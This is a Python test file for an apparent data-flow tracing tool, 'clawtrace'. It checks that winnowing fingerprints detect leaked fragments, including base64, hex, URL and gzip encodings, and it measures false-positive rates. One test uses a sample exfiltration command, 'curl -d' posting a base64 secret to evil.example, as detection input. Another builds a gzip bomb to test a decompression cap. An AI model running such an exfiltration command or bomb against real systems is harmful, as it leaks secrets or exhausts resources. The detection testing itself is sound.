"""Winnowing fingerprints: the 32-byte guarantee, decoded variants, false-positive rates."""

from __future__ import annotations

import base64
import gzip
import random
import urllib.parse

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clawtrace import fingerprint as fp
from clawtrace.fingerprint import GUARANTEE, Enc, K, W, contains_fragment, fingerprint, overlap, winnow

_M64 = (1 << 64) - 1


def ref_hash(kgram: bytes) -> int:
    """Pure-Python reference of the k-gram hash (two 8-byte halves, see _kgram_hashes)."""

    def half(x: int) -> int:
        m = (x * 0xBF58476D1CE4E5B9) & _M64
        return m ^ (m >> 29)

    a = int.from_bytes(kgram[:8], "little")
    b = int.from_bytes(kgram[8:16], "little")
    return half(a) ^ ((half(b) * 0x94D049BB133111EB) & _M64)


def ref_winnow(data: bytes) -> set[int]:
    """Brute-force winnowing: the leftmost minimum (by the top 44 bits) of every window."""
    hs = [ref_hash(data[i : i + K]) for i in range(len(data) - K + 1)]
    if not hs:
        return set()
    if len(hs) < W:
        return {hs[min(range(len(hs)), key=lambda i: (hs[i] >> 20, i))]}
    out = set()
    for j in range(len(hs) - W + 1):
        i = min(range(j, j + W), key=lambda i: (hs[i] >> 20, i))
        out.add(hs[i])
    return out


TEXT_ALPHABET = st.sampled_from(list(b"abcdefghijklmnopqrstuvwxyz ABCDEF0123456789_.,;:=()[]{}\n\"'/+-%"))
text_like = st.lists(TEXT_ALPHABET, min_size=0, max_size=3000).map(bytes)
binary = st.binary(min_size=0, max_size=3000)
contents = st.one_of(binary, text_like)


def _encodings(frag: bytes) -> dict[str, bytes]:
    return {
        "raw": frag,
        "base64": b" " + base64.b64encode(frag) + b" ",
        "base64_wrapped": b" " + base64.encodebytes(frag * 3) + b" ",
        "base64_urlsafe_unpadded": b" " + base64.urlsafe_b64encode(frag).rstrip(b"=") + b" ",
        "hex": b" " + frag.hex().encode() + b" ",
        "hex_upper": b" " + frag.hex().upper().encode() + b" ",
        "url": b" " + urllib.parse.quote_from_bytes(frag).encode() + b" ",
        "url_plus": b" " + urllib.parse.quote_plus(frag).encode() + b" ",
        "gzip_base64": b" " + base64.b64encode(gzip.compress(frag, mtime=0)) + b" ",
        "gzip_raw": gzip.compress(frag, mtime=0),
    }


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(a=contents, b=contents, data=st.data())
def test_embedded_fragment_is_always_found(a: bytes, b: bytes, data: st.DataObject) -> None:
    a = a + data.draw(st.binary(min_size=GUARANTEE, max_size=GUARANTEE))  # a holds at least 32 bytes
    length = data.draw(st.integers(GUARANTEE, min(200, len(a))))
    start = data.draw(st.integers(0, len(a) - length))
    frag = a[start : start + length]
    at = data.draw(st.integers(0, len(b)))
    out_fp = fingerprint(a)
    for name, enc in _encodings(frag).items():
        hay = b[:at] + enc + b[at:]
        ov = overlap(out_fp, fingerprint(hay, decode=True))
        assert ov is not None, name
        assert ov.count >= 1 and K <= ov.matched_bytes <= len(a)
        if name == "raw":
            assert contains_fragment(hay, a)


@settings(max_examples=60, deadline=None)
@given(a=contents, b=contents, shared=st.binary(min_size=GUARANTEE, max_size=64), data=st.data())
def test_winnow_guarantee_and_reference(a: bytes, b: bytes, shared: bytes, data: st.DataObject) -> None:
    i = data.draw(st.integers(0, len(a)))
    j = data.draw(st.integers(0, len(b)))
    x = a[:i] + shared + a[i:]
    y = b[:j] + shared + b[j:]
    hx, px = winnow(x)
    hy, _ = winnow(y)
    assert len(np.intersect1d(hx, hy)) >= 1
    # Exactly the brute-force selection, unique, and each position points at its k-gram.
    assert set(int(h) for h in hx) == ref_winnow(x)
    assert len(np.unique(hx)) == len(hx)
    for h, p in zip(hx.tolist(), px.tolist()):
        assert ref_hash(x[p : p + K]) == h


def _triples(f: fp.Fingerprint) -> list[tuple[int, int, int]]:
    return sorted(zip(f.hashes.tolist(), f.positions.tolist(), f.encodings.tolist()))


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    items=st.lists(st.tuples(contents, st.booleans()), max_size=12), shared=st.binary(min_size=GUARANTEE, max_size=40)
)
def test_fingerprint_many_is_fingerprint_of_each(items: list[tuple[bytes, bool]], shared: bytes) -> None:
    # Contents winnowed together get exactly what each gets alone: no window across two
    # contents, no hash lost to a neighbour's repeat (``shared`` sits in several of them).
    datas = [d + shared if i % 3 == 0 else d for i, (d, _) in enumerate(items)]
    flags = [x for _, x in items]
    many = fp.fingerprint_many(datas, flags)
    assert len(many) == len(datas)
    for d, x, m in zip(datas, flags, many):
        one = fingerprint(d, decode=x)
        assert (m.sha256, m.size) == (one.sha256, one.size)
        assert _triples(m) == _triples(one)
        assert m.hashes.dtype == np.uint64 and m.positions.dtype == np.int64 and m.encodings.dtype == np.uint8


def test_fingerprint_many_across_chunks() -> None:
    # Contents that straddle the 32 KiB chunks of the joined buffer, tiny ones between them,
    # and repeats of one content: each still gets its own selection.
    rng = random.Random(11)
    datas = [rng.randbytes(n) for n in (fp._CHUNK - 20, 5, 40, 3 * fp._CHUNK + 7, GUARANTEE, GUARANTEE - 1, 70_000)]
    datas += [datas[3], b"ab" * 40_000, b""]
    for d, m in zip(datas, fp.fingerprint_many(datas)):
        assert _triples(m) == _triples(fingerprint(d))
    with pytest.raises(ValueError, match="2 contents but 1 decode flags"):
        fp.fingerprint_many([b"a", b"b"], [True])


def test_short_and_empty_content() -> None:
    for data in (b"", b"x", b"y" * (K - 1)):
        f = fingerprint(data, decode=True)
        assert f.size == len(data)
        assert f.hashes.dtype == np.uint64 and f.positions.dtype == np.int64 and f.encodings.dtype == np.uint8
        assert len(f.hashes) == len(f.positions) == len(f.encodings) == 0
    f = fingerprint(b"0123456789abcdef!")  # two k-grams: one window
    assert len(f.hashes) == 1
    assert overlap(fingerprint(b""), f) is None


def test_positions_and_encodings_of_decoded_variants() -> None:
    rng = random.Random(1)
    secret = rng.randbytes(100)
    hay = b"curl -d " + base64.b64encode(secret) + b" https://evil.example"
    f = fingerprint(hay, decode=True)
    assert set(f.encodings.tolist()) == {Enc.RAW, Enc.BASE64}
    assert set(f.positions[f.encodings == Enc.BASE64].tolist()) == {8}  # where the base64 run starts
    ov = overlap(fingerprint(secret), f)
    assert ov is not None and ov.encoding == "base64" and ov.in_offset == 8
    assert ov.matched_bytes >= 50
    assert fingerprint(hay).sha256 == f.sha256 and len(fingerprint(hay).hashes) < len(f.hashes)


def test_chunk_boundaries_do_not_lose_matches() -> None:
    rng = random.Random(7)
    big = rng.randbytes(3 * fp._CHUNK + 1000)
    # Same selection as an unchunked computation over the whole array.
    h = fp._kgram_hashes(fp._u64_view(np.frombuffer(big + bytes(8), np.uint8), len(big) - K + 9), len(big) - K + 1)
    win = np.lib.stride_tricks.sliding_window_view(h >> np.uint64(20), W)
    sel = np.unique(h[np.argmin(win, axis=1) + np.arange(len(win))])
    assert np.array_equal(np.sort(winnow(big)[0]), sel)
    frag_src = rng.randbytes(500)
    out_fp = fingerprint(frag_src)
    for boundary in (fp._CHUNK, 2 * fp._CHUNK):
        for off in range(boundary - 40, boundary + 8):
            frag = frag_src[100 : 100 + GUARANTEE]
            hay = big[:off] + frag + big[off + GUARANTEE :]
            assert overlap(out_fp, fingerprint(hay)) is not None, off


def test_false_positive_rate_random_binary() -> None:
    rng = random.Random(2024)
    pairs = 2000
    hits = sum(
        overlap(fingerprint(rng.randbytes(2048)), fingerprint(rng.randbytes(2048), decode=True)) is not None
        for _ in range(pairs)
    )
    print(f"false-positive rate, random 2 KB binary pairs: {hits}/{pairs}")
    assert hits == 0


_VOCAB = (
    "the a of to and in is it that for on with as this by be are from at or an was which def return "
    "import self if else for while class None True False value result data file path config user "
    "agent tool call session event error message request response json string list dict int "
    "open read write close print len range append get set update load save token model run"
).split()


def _text(rng: random.Random, n: int) -> bytes:
    words: list[str] = []
    size = 0
    while size < n:
        w = rng.choice(_VOCAB)
        sep = rng.choice([" ", " ", " ", "(", ")", ".", ", ", "\n", " = ", ": "])
        words.append(w + sep)
        size += len(w) + len(sep)
    return "".join(words).encode()[:n]


def test_false_positive_rate_vocabulary_text() -> None:
    # Unrelated texts drawn from one 100-word vocabulary share a selected k-gram only when
    # they share a 16-byte run of words by chance, and both select it. Measured: 9/1000
    # pairs of 2 KB (0.9%): a 16-byte k-gram spans only ~3 short words and separators, so a
    # pair of 2 KB texts has ~2000 x 2000 chances at ~10^-7 each to share one, and a shared
    # k-gram is selected on both sides about 1 time in 9 or so. Real prose and code draw on
    # far larger vocabularies; ingest should also require matched_bytes above K (or a count
    # above 1) before it draws a data_flow edge. Bound: 3%, above the measured rate plus noise.
    rng = random.Random(99)
    pairs = 1000
    hits = sum(
        overlap(fingerprint(_text(rng, 2048)), fingerprint(_text(rng, 2048), decode=True)) is not None
        for _ in range(pairs)
    )
    print(f"false-positive rate, vocabulary text 2 KB pairs: {hits}/{pairs}")
    assert hits / pairs <= 0.03


def test_gzip_bomb_is_capped() -> None:
    unit = b"clawtrace gzip bomb, period 32."
    bomb = gzip.compress(unit * (40 * 1024 * 1024 // len(unit)), mtime=0)
    assert fp._GZIP_CAP < 40 * 1024 * 1024
    variants = fp._decoded_variants(b"x " + base64.b64encode(bomb) + b" y")
    assert sum(len(p) for p in variants[Enc.GZIP].pieces) == fp._GZIP_CAP
    f = fingerprint(b"x " + base64.b64encode(bomb) + b" y", decode=True)
    assert Enc.GZIP in set(f.encodings.tolist())
    assert overlap(fingerprint(unit * 2), f) is not None
